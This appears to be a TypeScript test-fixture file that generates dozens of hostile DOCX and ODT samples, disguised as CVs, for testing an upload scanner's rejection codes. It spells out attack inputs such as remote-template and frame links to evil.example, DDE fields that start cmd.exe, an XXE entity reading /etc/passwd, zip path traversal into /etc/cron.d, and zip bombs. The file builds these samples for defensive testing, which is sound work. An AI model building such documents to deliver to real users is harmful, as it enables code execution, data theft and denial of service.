import { docx, docxParts, MIME_TYPE_PART, odt, type Relationship, xlsx } from '../makers/office.ts';
import { ole } from '../makers/ole.ts';
import { pdf } from '../makers/pdf.ts';
import { type ZipEntry, zip } from '../makers/zip.ts';
import { EICAR, latin1, PROGRAM, type Sample } from '../sample.ts';

const object = ole([{ name: '\x01Ole10Native', data: PROGRAM }]);
const nothing = Buffer.alloc(0);
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const blank = Buffer.alloc(30_000_000);
const ENTITIES = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';

const word = (title: string, bytes: Buffer, code: Sample['code'] = 'fileUnsafe'): Sample => ({
  title: `docx ${title}`,
  name: 'cv.docx',
  bytes,
  code,
});
const text = (title: string, bytes: Buffer, code: Sample['code'] = 'fileUnsafe'): Sample => ({
  title: `odt ${title}`,
  name: 'cv.odt',
  bytes,
  code,
});
const withPart = (name: string, data: ZipEntry['data'] = 'x'): Buffer => docx({ parts: [{ name, data }] });
const withLink = (type: string, target: string): Buffer =>
  docx({ links: [{ type, target, external: true } satisfies Relationship] });
const field = (...pieces: string[]): string =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;

/** Says of itself that it has an entry less. */
function uncounted(): Buffer {
  const bytes = withPart('word/vbaProject.bin');
  const end = bytes.lastIndexOf('PK\x05\x06');
  for (const at of [8, 10]) bytes.writeUInt16LE(bytes.readUInt16LE(end + at) - 1, end + at);
  return bytes;
}

const links = Array.from({ length: 15_000 }, (_, index) => ({
  type: 'hyperlink',
  target: `https://a.example/${index * 7_919}`,
  external: true,
}));
const many = Array.from({ length: 65_000 }, (_, index) => ({
  name: `word/media/${index}.xml`,
  data: nothing,
  stored: true,
}));
const wide = Array.from({ length: 60 }, (_, index) => ({
  name: `word/media/${index}.bin`,
  data: blank.subarray(0, 999_000),
}));

const HOSTILE_DOCX: readonly Sample[] = [
  word('with macros', withPart('word/vbaProject.bin', ole([{ name: 'VBA', children: [] }]))),
  word('with macros under another name', withPart('word/media/image2.bin', ole([{ name: 'VBA', children: [] }]))),
  word(
    'that says it has macros',
    docx({ types: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' }),
  ),
  word('with a template from elsewhere', withLink('attachedTemplate', 'https://evil.example/t.dotm')),
  word('with a template from a shared disk', withLink('attachedTemplate', 'file:///\\\\evil.example\\share\\t.dotm')),
  word('with a picture from elsewhere', withLink('image', 'https://evil.example/pixel.png')),
  word('with a frame from elsewhere', withLink('frame', 'https://evil.example/')),
  word('with an object on the disk', withLink('oleObject', 'file:///C:\\Windows\\System32\\calc.exe')),
  word(
    'with a link in escaped letters',
    docx({
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target=\'http://a>b\' TargetMode="&#69;xternal"/></Relationships>',
        },
      ],
    }),
  ),
  word(
    'with a link in UTF-16',
    docx({
      parts: [
        {
          name: 'word/_rels/settings.xml.rels',
          data: utf16('<Relationship Type="x/frame" TargetMode="External" Target="http://a"/>'),
        },
      ],
    }),
  ),
  word('with a part that it calls macros', docx({ links: [{ type: 'vbaProject', target: 'media/image1.png' }] })),
  word('with an embedded object', withPart('word/embeddings/oleObject1.bin', object)),
  word('with an embedded object under another name', withPart('word/media/image2.emf', object)),
  word('with an embedded program', withPart('word/media/image2.png', PROGRAM)),
  word('with an embedded document', withPart('word/embeddings/Microsoft_Word.docx', docx())),
  word('with a zip in it', withPart('word/media/a.zip', zip([{ name: 'a', data: 'a' }]))),
  word(
    'with a chart whose workbook has macros',
    withPart('word/embeddings/a.xlsx', xlsx([{ name: 'xl/vbaProject.bin', data: 'x' }])),
  ),
  word('with a control', withPart('word/activeX/activeX1.xml', '<a/>')),
  word('with RTF in it', withPart('word/afchunk.rtf', '{\\rtf1}')),
  word('with EICAR in it', withPart('word/media/a.txt', EICAR)),
  word('with a field that starts a program', docx({ body: field('DD', 'EAUTO c:\\windows\\cmd.exe') })),
  word('with a simple field that starts a program', docx({ body: '<w:fldSimple w:instr=" DDE cmd x"/>' })),
  word('of 65,000 fields', docx({ body: many.map(({ name }) => field(`REF ${name}`)).join('') })),
  word('of 15,000 links', docx({ links })),
  word('with two names for a part', docx({ parts: [{ name: 'word/a.bin', otherName: 'word/vba.bin', data: 'x' }] })),
  word('with a part that is not counted', uncounted(), 'fileDamaged'),
  word('with entities', withPart('customXml/item1.xml', ENTITIES)),
  word('with entities in UTF-16', withPart('customXml/item1.bin', utf16(ENTITIES))),
  word(
    'with a part in an unusual encoding',
    withPart('customXml/item1.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>'),
  ),
  word('with a part in UTF-16 without a mark', withPart('customXml/item1.xml', utf16('<a/>').subarray(2))),
  word('with a way out of its folder', withPart('../../evil.xml')),
  word('with an absolute name', withPart('/etc/cron.d/evil')),
  word('that unpacks to 300 times its size', withPart('word/media/a.bin', blank)),
  word('that unpacks to 60 MB in all', docx({ parts: wide })),
  word(
    'whose part is bigger than it says',
    docx({ parts: [{ name: 'a.xml', data: blank.subarray(0, 5_000_000), claims: 10 }] }),
  ),
  word('of 65,000 entries', docx({ parts: many })),
  word('with a password on a part', docx({ parts: [{ name: 'word/a.xml', data: 'x', flags: 1 }] }), 'fileProtected'),
  word('with a password', ole([{ name: 'EncryptedPackage', data: nothing }]), 'fileProtected'),
  word('with two parts of one name', withPart('word/document.xml', '<a/>'), 'fileDamaged'),
  word('without its end', docx().subarray(0, -40), 'fileDamaged'),
  word('without a text', zip(docxParts().filter(({ name }) => name !== 'word/document.xml')), 'fileContent'),
  word('that is any zip', zip([{ name: 'a.txt', data: 'a' }]), 'fileContent'),
  word('that is a doc', ole([{ name: 'WordDocument', data: nothing }]), 'fileContent'),
  word('that is an odt', odt(), 'fileContent'),
  word('that is a PDF', pdf(), 'fileContent'),
];

const withOdtPart = (name: string, data: ZipEntry['data']): Buffer => odt({ parts: [{ name, data }] });

const HOSTILE_ODT: readonly Sample[] = [
  text('with macros', withOdtPart('Basic/Standard/Module1.xml', '<a/>')),
  text('with scripts', withOdtPart('Scripts/python/a.py', 'print(1)')),
  text(
    'that calls a macro',
    odt({ body: '<script:event-listener xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>' }),
  ),
  text('that calls a macro in escaped letters', odt({ body: '<text:a xlink:href="vnd.sun.star.&#x73;cript:a"/>' })),
  text('with an object of another program', withOdtPart('Object 1', object)),
  text('with a place for such an object', odt({ body: '<draw:object-ole xlink:href="./Object 1"/>' })),
  text('with a frame', odt({ body: '<draw:floating-frame xlink:href="http://evil.example"/>' })),
  text('with a picture from elsewhere', odt({ body: '<draw:image xlink:href="http://evil.example/a.png"/>' })),
  text('with data of another program', odt({ body: '<office:dde-source office:dde-application="cmd"/>' })),
  text('with entities', withOdtPart('Object 1/content.xml', ENTITIES)),
  text('that unpacks to 300 times its size', withOdtPart('Pictures/a.bin', blank)),
  text('with a password', odt({ manifestEntry: '<manifest:encryption-data/>', body: '' }), 'fileProtected'),
  text(
    'that says it is another kind',
    zip([
      { ...MIME_TYPE_PART, data: 'application/vnd.oasis.opendocument.spreadsheet' },
      { name: 'content.xml', data: '<a/>' },
    ]),
    'fileContent',
  ),
  text('without a text', zip([MIME_TYPE_PART]), 'fileContent'),
  text('that is a docx', docx(), 'fileContent'),
  text('that is plain text', latin1('Bonjour'), 'fileContent'),
];

export const HOSTILE_OFFICE: readonly Sample[] = [...HOSTILE_DOCX, ...HOSTILE_ODT];
